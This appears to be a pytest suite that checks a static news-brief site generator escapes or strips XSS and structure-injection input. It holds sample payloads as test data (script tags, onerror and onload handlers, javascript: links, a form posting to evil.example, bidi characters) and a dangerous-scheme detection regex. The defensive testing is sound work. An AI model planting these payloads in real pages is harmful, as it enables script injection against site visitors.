"""B. XSS and structure injection, checked on the built site (RELIABILITY.md B1-B6).

One project holds one fixture seed per case (tests/fixtures/hostile/b*); it is built
once, and each test asserts its case on the pages and the search index. Every page
of the site passes the live-code oracle (tests/xss_oracle.py).
"""

from __future__ import annotations

import json
import re
import shutil
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.conftest import make_project
from tests.reliability.kit import HOSTILE, build, lines, snapshot
from tests.xss_oracle import scan, site_problems

CASES = ("b1_html_payloads", "b2_links", "b3_attr_lists", "b4_structure", "b5_meta")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    root = make_project(tmp_path_factory.mktemp("xss") / "project")
    for case in CASES:
        for path in HOSTILE.glob(f"{case}.*"):
            shutil.copy(path, root / "seeds" / path.name)
    result = build(root)
    assert result.returncode == 0, result.stderr
    return root, result.stderr


def page_of(root: Path, seed: str) -> str:
    state = json.loads((root / ".briefs" / "state.json").read_text(encoding="utf-8"))
    brief = state["briefs"][f"seeds/{seed}.txt"]["brief"]
    slug = Path(brief).stem
    return (root / "site" / "briefs" / slug / "index.html").read_text(encoding="utf-8")


class _Article(HTMLParser):
    """The tags, attributes and visible text inside ``<article>``."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.paragraphs: list[str] = []
        self._p: list[str] | None = None
        self._meta = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        if tag == "article":
            self.depth += 1
            return
        if not self.depth:
            return
        self.tags.append((tag, values))
        if "brief-meta" in values.get("class", "").split():
            self._meta = 1
        elif self._meta and tag == "div":
            self._meta += 1
        if tag == "p" and not self._meta:
            self._p = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "article":
            self.depth -= 1
        elif self.depth and tag == "div" and self._meta:
            self._meta -= 1
        elif self.depth and tag == "p" and self._p is not None:
            self.paragraphs.append(" ".join("".join(self._p).split()))
            self._p = None

    def handle_data(self, data: str) -> None:
        if self._p is not None:
            self._p.append(data)


def article(html: str) -> _Article:
    parser = _Article()
    parser.feed(html)
    return parser


def test_every_page_and_the_search_index_pass_the_oracle(site, control) -> None:
    root, _ = site
    assert site_problems(root / "site", control) == []


def test_oracle_catches_live_code() -> None:
    """The oracle itself: each kind of live code is found."""
    page = ('<a href=" JaVa\tScript:alert(1)">x</a><img src=x onerror=alert(1)>'
            '<iframe src="https://x"></iframe><script>alert(1)</script>'
            '<a href="data:text/html,x">d</a><a href="https://ok">ok</a><a href="../ok/">r</a>')
    found = scan(page, "p")
    assert len(found.problems) == 3
    assert list(found.scripts) and list(found.embedders)


def test_b1_html_payloads_are_visible_text(site) -> None:
    root, _ = site
    text = " ".join(article(page_of(root, "b1_html_payloads")).paragraphs)
    for payload in ("<script>alert('b1-script')</script>", "<img src=x onerror=alert('b1-img')>",
                    "<svg onload=alert('b1-svg')>", "<style>body{display:none}</style>",
                    '<form action="https://evil.example/"><input name=p></form>'):
        assert payload in text


def test_b2_no_javascript_or_data_links_and_reference_stays_visible(site) -> None:
    root, _ = site
    html = page_of(root, "b2_links")
    parsed = article(html)
    hrefs = [a.get("href", "") for tag, a in parsed.tags if tag == "a"]
    assert not [h for h in hrefs if re.match(r"\s*(javascript|data|vbscript):", h, re.I)]
    text = " ".join(parsed.paragraphs)
    assert "[r]: javascript:alert('b2-refdef') is a reference definition line" in text
    assert "[here](javascript:alert('b2-js'))" in text


def test_b3_no_event_or_style_attributes_in_the_article(site) -> None:
    root, _ = site
    parsed = article(page_of(root, "b3_attr_lists"))
    for tag, attrs in parsed.tags:
        assert not [a for a in attrs if a.startswith("on") or a == "style"], (tag, attrs)
    assert "*e*{ onmouseover=alert('b3-em') } text" in " ".join(parsed.paragraphs)


def seed_paragraphs(name: str) -> list[str]:
    """The seed's article paragraphs as a reader should see them (cleaned like the tool)."""
    text = (HOSTILE / name).read_text(encoding="utf-8")
    out = []
    for block in text.split("\n\n")[2:]:
        block = re.sub("[\u202a-\u202e\u200b\x00]", "", block).replace("\u2028", " ")
        out.append(" ".join(unicodedata.normalize("NFC", block).split()))
    return [p for p in out if p]


def test_b4_only_our_structure_and_the_visible_text_round_trips(site) -> None:
    root, stderr = site
    parsed = article(page_of(root, "b4_structure"))
    header = {"div", "p", "time", "ul", "li", "span", "strong", "h1"}
    assert {tag for tag, _ in parsed.tags} <= header
    assert parsed.paragraphs == seed_paragraphs("b4_structure.txt")
    warning = [w for w in lines_of(stderr, "WARNING") if w.startswith(
        "WARNING seeds/b4_structure.txt: removed")]
    assert warning and "U+202E" in warning[0]


def lines_of(stderr: str, level: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith(level + " ")]


def test_b4_title_has_no_bidi_or_zero_width_characters(site) -> None:
    root, _ = site
    html = page_of(root, "b4_structure")
    title = re.search(r"<title>(.*?)</title>", html, re.S)
    assert title and not re.search("[\u202a-\u202e\u200b\u2066-\u2069]", title.group(1))
    assert "Council evil meeting hears from every resident" in title.group(1)


def test_b5_title_summary_tags_escaped_everywhere(site) -> None:
    root, _ = site
    html = page_of(root, "b5_meta")
    title = "&lt;img src=x onerror=alert(&#x27;b5-title&#x27;)&gt;"
    assert f"<title>{title} - News briefs</title>" in html
    assert f"<h1>{title}</h1>" in html
    assert re.search(r'class="md-ellipsis">\s*' + re.escape(title), html)  # header
    meta = re.search(r'<meta name="description" content="([^"]*)">', html)
    assert meta and "onfocus" in meta.group(1) and "autofocus=&quot;" in meta.group(1)
    home = (root / "site" / "index.html").read_text(encoding="utf-8")
    assert title in home and "<img src=x" not in home
    index = json.loads((root / "site" / "search" / "search_index.json").read_text("utf-8"))
    (doc,) = [d for d in index["docs"] if d["location"].startswith("briefs/img-src")]
    assert doc["title"] == title
    assert doc["tags"] == ["&lt;b&gt;t&lt;/b&gt;",
                           "&lt;script&gt;alert(&#x27;b5-tag&#x27;)&lt;/script&gt;"]


def test_b6_brief_without_front_matter_is_refused(project) -> None:
    root = project()
    (root / "docs" / "briefs").mkdir()
    shutil.copy(HOSTILE / "b6_no_front_matter.md", root / "docs" / "briefs" / "x.md")
    before = snapshot(root)
    result = build(root)
    assert result.returncode == 1
    assert lines(result, "ERROR") == [
        "ERROR docs/briefs/x.md: missing front matter (the file must start with '---')"]
    assert not (root / "site").exists()
    after = snapshot(root)
    assert {k: v for k, v in after.items() if k != "docs/.publish.lock"} == \
        {k: v for k, v in before.items() if k != "docs/.publish.lock"}


def test_b6_other_page_whose_first_line_would_be_eaten_as_metadata(project) -> None:
    root = project()
    shutil.copy(HOSTILE / "b6_no_front_matter.md", root / "docs" / "about.md")
    result = build(root)
    assert result.returncode == 1
    (error,) = lines(result, "ERROR")
    assert error.startswith("ERROR docs/about.md: missing front matter: MkDocs would take "
                            "the first line 'Update: the council changed its mind' as metadata")
